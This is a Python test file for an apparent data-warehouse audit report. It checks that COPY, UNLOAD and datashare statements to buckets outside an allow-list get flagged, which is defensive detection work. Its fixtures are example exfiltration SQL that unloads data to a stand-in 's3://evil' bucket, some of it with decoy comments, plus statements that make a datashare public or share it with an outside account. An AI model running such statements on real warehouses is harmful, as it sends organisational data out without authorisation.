"""Section 10: what data came in or went out, and to which buckets."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agent.report.model import Questions
from agent.report.sections.movement import SECTION, buckets_of
from tests.report.sections.asking import HOSTILE, brief, said, told, told_one

OURS = Questions(allowed_buckets=("acme-*",))
FOREIGN = "Data moved to or from a bucket that is not allowed"

NAMED = {
    "unload ('select 1') to 's3://evil/x_' credentials ''": {"evil"},
    "copy t from 'S3://Acme-in/2026/x.csv' iam_role default delimiter '|'": {"acme-in"},
    "unload ('select ''s3://acme-ok/''') to 's3://evil-1.b'": {"acme-ok", "evil-1.b"},
    "unload ('x') to 's3://evil' /* s3://acme-a/ */ -- s3://acme-b": {"evil", "acme-a", "acme-b"},
    "copy t from 's3://a/s3://b'": {"a", "b"},
    "copy t from 'dynamodb://t' credentials ''": set(),
    "copy t from 's3://'": set(),
    "unload ('x') to 's3://s3://evil/'": {"s3", "evil"},
}


@pytest.mark.parametrize(("sql", "expected"), NAMED.items(), ids=[one[:60] for one in NAMED])
def test_every_bucket_that_a_statement_names_is_told(sql: str, expected: set[str]) -> None:
    answers, _ = told_one("movement", NAMED, sql)

    assert [buckets_of(str(row["buckets"])) for row in answers["places"]] == [expected]


_AROUND = st.text("ab |/'s3:-\n*", max_size=12)
_BUCKET = st.from_regex(r"[a-z0-9][a-z0-9.-]{2,10}", fullmatch=True)


@settings(max_examples=6, deadline=None)
@given(st.lists(st.tuples(_AROUND, _BUCKET, _AROUND), min_size=1, max_size=20))
def test_nothing_around_a_bucket_hides_it(written: list[tuple[str, str, str]]) -> None:
    rows = [
        {
            "at": 1791201600000,
            "query_text": f"unload ('x') to '{before}s3://{bucket}/{after}'",
            "user_name": f"u{number}",
            "verb": "UNLOAD",
            "verb_class": "DATA_MOVE",
        }
        for number, (before, bucket, after) in enumerate(written)
    ]
    answers, _ = told(SECTION, statement=rows)

    named = {str(row["user_name"]): buckets_of(str(row["buckets"])) for row in answers["places"]}
    for number, (_, bucket, _) in enumerate(written):
        assert bucket in named[f"u{number}"]


def test_a_bucket_outside_the_list_is_high_and_an_unload_inside_it_is_told() -> None:
    rows = [
        *said("unload ('select 1') to 's3://evil/x'"),
        *said("unload ('select 2') to 's3://evil/y'", at="2026-10-06 12:00:00"),
        *said("copy t from 's3://evil/x'", user_name="carol"),
        *said("unload ('select 1') to 's3://acme-out/x'"),
        *said("copy t from 's3://acme-in/x'"),
    ]
    _, found = told(SECTION, OURS, statement=rows)

    assert brief(found) == [("high", FOREIGN, "evil", 3), ("info", "Data unloaded", "bob", 1)]
    assert "3 statements (COPY, UNLOAD) of bob, carol" in found[0].because
    assert len(found[0].evidence) == 2


def test_where_no_list_is_configured_no_bucket_is_wrong_and_unloads_are_told() -> None:
    rows = [*said("unload ('select 1') to 's3://evil/x'"), *said("copy t from 's3://other/x'")]
    _, found = told(SECTION, statement=rows)

    assert brief(found) == [("info", "Data unloaded", "bob", 1)]
    assert found[0].because.endswith("in 1 statement, to evil.")


def test_a_decoy_in_a_comment_does_not_hide_the_bucket() -> None:
    sql = "unload ('select 1') to 's3://evil/x' -- to 's3://acme-out/'"

    assert brief(told(SECTION, OURS, statement=said(sql))[1]) == [("high", FOREIGN, "evil", 1)]


LINKS = {
    "grant usage on datashare d to account '123456789012'": ("datashare", "medium"),
    "alter datashare d set publicaccessible = true": ("datashare", "high"),
    "create external schema e from postgres database 'd' uri 'h'": ("federated schema", "low"),
    "create external schema e from data catalog database 'd'": ("external schema", "low"),
    "create external schema e from kinesis iam_role default": ("stream", "low"),
    "create database d from datashare s of namespace 'n'": ("shared database", "low"),
    "create or replace library l language plpythonu from 's3://b/x.zip'": (
        "library or model",
        "low",
    ),
    "create external table e.t (a int) location 's3://b/x'": ("external object", None),
    "grant usage on datashare d to bob": ("datashare", None),
    "alter datashare d set publicaccessible false": ("datashare", None),
    "alter table a append from b": ("append", None),
}


@pytest.mark.parametrize(("sql", "expected"), LINKS.items(), ids=lambda one: str(one)[:40])
def test_ways_to_other_places_are_listed_and_new_ones_found(
    sql: str, expected: tuple[str, str | None]
) -> None:
    answers, found = told_one("movement", LINKS, sql)

    assert [row["kind"] for row in answers["links"]] == [expected[0]]
    assert [one.severity for one in found] == ([expected[1]] if expected[1] else [])


def test_what_is_shared_is_a_column_of_links_alone() -> None:
    titles = {query.name: [one.title for one in query.columns] for query in SECTION.queries}

    assert "Shared with another account" in titles["links"]
    assert "Shared with another account" not in titles["unloads"] + titles["copies"]


def test_kinds_are_counted_and_what_moves_nothing_is_in_no_answer() -> None:
    rows = [
        *said("copy a from 's3://b/x'"),
        *said("copy a from 's3://b/y'"),
        *said("unload ('select 1') to 's3://b/z'"),
        *said("select 's3://b/'"),
        *said("create table t (a int)"),
        *said("copy a from 's3://b/y'", is_duplicate=True),
    ]
    answers, _ = told(SECTION, statement=rows)

    assert [tuple(row.values()) for row in answers["kinds"]] == [("copy", 2), ("unload", 1)]
    quiet, found = told(SECTION, statement=said("create table t (a int)"))
    assert not any(quiet.values())
    assert not found


def test_a_hostile_name_is_told_as_it_is() -> None:
    sql = "unload ('select 1') to 's3://evil/x'"
    _, found = told(SECTION, OURS, statement=said(sql, user_name=HOSTILE))

    assert HOSTILE in found[0].because
